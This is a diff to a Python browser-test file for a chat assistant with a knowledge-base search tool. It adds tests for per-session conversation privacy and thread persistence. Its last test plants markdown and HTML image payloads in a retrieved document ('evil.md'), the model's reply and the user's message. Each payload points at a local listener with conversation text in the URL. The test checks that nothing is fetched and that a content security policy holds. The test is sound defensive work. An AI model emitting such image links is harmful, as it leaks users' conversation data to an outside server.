@@ -4,9 +4,12 @@ from __future__ import annotations
 
 import os
 import shutil
+import threading
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
 import pytest
 
+from rag.types import Hit
 from tests.conftest import Reply
 
 try:
@@ -72,7 +75,7 @@ def test_a_message_streams_into_the_chat_with_its_trace_and_charts(serve_glassbo
 
 
 def test_two_browser_sessions_get_separate_conversations(serve_glassbox, scripted_model, browser_page):
-    url = serve_glassbox().url
+    url = serve_glassbox(auth_mode="public").url
     first = browser_page
     second = first.context.browser.new_context().new_page()
     for page, text in ((first, "My order number is 4242."), (second, "What is my order number?")):
@@ -85,6 +88,13 @@ def test_two_browser_sessions_get_separate_conversations(serve_glassbox, scripte
     assert "4242" not in second.inner_text("#gb-chat")
     second_prompt = " ".join(m.text for m in scripted_model.prompts[-1])
     assert "What is my order number?" in second_prompt and "4242" not in second_prompt
+    # The conversation list is saved in the browser just after the run ends; then a reload shows it.
+    second.wait_for_selector("#gb-conversations :text('What is my order number?')", timeout=10_000)
+    second.reload()  # the second visitor's own list, after a reload, holds only its own conversation
+    second.wait_for_selector("#gb-conversations :text('What is my order number?')", timeout=10_000)
+    assert "4242" not in second.inner_text("#gb-conversations")
+    import httpx  # and a stranger on the API sees neither visitor's threads
+    assert httpx.get(f"{url}/api/threads").json()["threads"] == []
 
 
 def send(page, text: str) -> None:
@@ -117,7 +127,14 @@ def test_conversations_are_listed_reopened_renamed_and_survive_a_restart(serve_g
     assert "search_knowledge_base" in page.inner_text("#gb-chat")
     assert "run_end" in page.inner_text("#gb-panel")  # the last run's events came back too
 
+    asked = len(scripted_model.prompts)
     send(page, "And opened headphones?")  # the reopened thread goes on
+    # The panel showed the stored run's run_end already: wait for the model to get the new message.
+    page.wait_for_function("document.querySelector('#gb-chat').innerText.includes('And opened headphones?')")
+    for _ in range(200):
+        if len(scripted_model.prompts) > asked:
+            break
+        page.wait_for_timeout(50)
     assert "How long can I return a faulty item?" in " ".join(m.text for m in scripted_model.prompts[-1])
 
     page.fill("#gb-title textarea, #gb-title input", "Returns")
@@ -147,3 +164,53 @@ def test_a_ticket_waits_for_approve_in_the_chat(serve_glassbox, scripted_model, 
     assert tickets.get("T-000001")["severity"] == "high"
     page.wait_for_selector("#gb-approve", state="hidden", timeout=5_000)
     assert "approval_decided" in page.inner_text("#gb-panel")
+
+
+@pytest.fixture
+def listener():
+    """A web server on a free local port that records every request it gets: an attacker's."""
+    requests: list[str] = []
+
+    class Record(BaseHTTPRequestHandler):
+        def do_GET(self):
+            requests.append(self.path)
+            self.send_response(204)
+            self.end_headers()
+
+        do_HEAD = do_POST = do_GET
+
+        def log_message(self, *args):
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Record)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield server.server_address[1], requests
+    server.shutdown()
+    server.server_close()
+
+
+def test_images_from_the_model_a_document_or_the_user_load_nothing(serve_glassbox, scripted_model, knowledge_base,
+                                                                    browser_page, listener, monkeypatch):
+    port, requests = listener
+    html = f'<img src="http://127.0.0.1:{port}/html-img">'
+    markdown = f"![x](http://127.0.0.1:{port}/md-img?conv=refund+window+secret)"
+    monkeypatch.setattr(knowledge_base, "FACTS", [Hit("evil.md", "c9", 0.9, f"Refunds take 5 days. {html} {markdown}")])
+    scripted_model.replies = [Reply(tokens=["Refunds take **5 days**. ", html, " ", markdown])]
+    page = browser_page
+    violations = []
+    page.on("console", lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None)
+    response = page.goto(serve_glassbox().url)
+    assert "img-src 'self' data: blob:" in response.headers["content-security-policy"]
+    page.wait_for_selector("#gb-status:has-text('ready')", timeout=20_000)
+
+    send(page, f"How soon is my refund? {html} {markdown}")
+    page.click("#gb-chat :text('search_knowledge_base')")  # open the step: the document's text is drawn
+    page.wait_for_selector("#gb-chat :text('Refunds take 5 days.')", timeout=10_000)
+    page.wait_for_timeout(500)  # time for any image to be fetched
+
+    assert requests == []
+    # Escaped, not just blocked: the payloads are text and links, never image elements.
+    assert page.locator(f"#gb-chat img[src*='{port}'], #gb-panel img[src*='{port}']").count() == 0
+    assert page.inner_text("#gb-chat").count(html) == 3  # the user's message, the document, the answer
+    assert page.locator("#gb-chat a[href*='md-img']").count() == 3
+    assert violations == []  # the page itself needs nothing the policy forbids
